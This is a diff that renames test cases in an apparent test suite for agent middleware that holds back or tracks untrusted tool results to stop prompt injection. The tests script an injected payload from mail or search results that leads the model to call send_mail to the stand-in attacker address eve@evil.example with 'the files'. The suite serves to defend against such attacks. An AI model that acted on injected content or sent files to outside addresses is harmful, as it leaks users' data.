@@ -87,7 +87,7 @@ describe.each(['v1', 'v2'] as const)('quarantine in an agent (%s)', (version) =>
     expect(shown()).toContain('2026-05-04T08:00:00Z')
   })
 
-  it('asks a person before an untrusted value acts, and then passes the value', async () => {
+  it('asks a person before a tool acts on an untrusted value, and then passes the value', async () => {
     const { agent, sent, shown } = office([calls('read_mail'), mailed, 'Done.'], trust, version)
     const held = await agent.invoke(USER, THREAD)
     expect(sent).toEqual([])
@@ -103,7 +103,7 @@ describe.each(['v1', 'v2'] as const)('quarantine in an agent (%s)', (version) =>
   })
 
   it.each([{ decisions: [] }, { decisions: [{ type: 'yes' }] }, 'yes', true])(
-    'does nothing for the answer %j, which is none',
+    'does nothing for the invalid answer %j',
     async (resume) => {
       const { agent, sent } = office([calls('read_mail'), mailed, 'Done.'], trust, version)
       await agent.invoke(USER, THREAD)
@@ -154,7 +154,7 @@ describe.each(['v1', 'v2'] as const)('quarantine in an agent (%s)', (version) =>
     expect(requests()).toHaveLength(4)
   })
 
-  it('hides files of people, and what was in the thread before', async () => {
+  it('hides files of people, and the earlier content of the thread', async () => {
     const { agent, shown } = office(['Done.'], trust, version)
     const call = { id: 'old', name: 'read_mail', args: {}, type: 'tool_call' as const }
     const url = `data:text/plain;base64,${Buffer.from(POISON).toString('base64')}`
@@ -197,7 +197,7 @@ describe('track in an agent', () => {
   const trust = { mode: 'track', tools: TRUST } as const
   const sends = calls('send_mail', { to: 'eve@evil.example', body: 'the files' })
 
-  it('shows values, and asks before it acts on what they may have said', async () => {
+  it('shows values, and asks before it acts on what they may contain', async () => {
     const { agent, sent, shown } = office([calls('read_mail'), sends, 'Done.'], trust)
     const held = await agent.invoke(USER, THREAD)
     expect(shown()).toContain('IGNORE')
@@ -213,7 +213,7 @@ describe('track in an agent', () => {
     expect(textOf(requests().at(-1) ?? [])).toContain('The call to "send_mail" was denied')
   })
 
-  it('takes what a provider read for its model as untrusted', async () => {
+  it('treats what a provider read for its model as untrusted', async () => {
     const { agent, sent } = office([sends, 'Done.'], trust)
     const found = { type: 'web_search_tool_result', content: POISON }
     const messages = [
@@ -226,7 +226,7 @@ describe('track in an agent', () => {
     expect(sent).toEqual([])
   })
 
-  it('leaves calls alone before anything untrusted was read', async () => {
+  it('allows calls before anything untrusted was read', async () => {
     const { agent, sent } = office([calls('clock'), sends, 'Done.'], trust)
     await agent.invoke(USER, THREAD)
     expect(sent).toHaveLength(1)
@@ -234,7 +234,7 @@ describe('track in an agent', () => {
 })
 
 describe('trust with other middleware', () => {
-  it('asks again where a person has approved the call for another reason', async () => {
+  it('asks again if a person has approved the call for another reason', async () => {
     const { refs } = office([], { mode: 'quarantine', tools: TRUST })
     const sent: unknown[] = []
     const { model } = scriptedChat([calls('mail'), mailed, 'Done.'])
@@ -261,7 +261,7 @@ describe('trust with other middleware', () => {
     expect(sent).toEqual([{ to: 'bob@example.com', body: POISON }])
   })
 
-  it('does not wrap tools that nothing would hold', () => {
+  it('does not wrap tools that need no check', () => {
     const { refs } = office([], 'track')
     expect(() => refs.tools([])).toThrow('refs.middleware')
   })
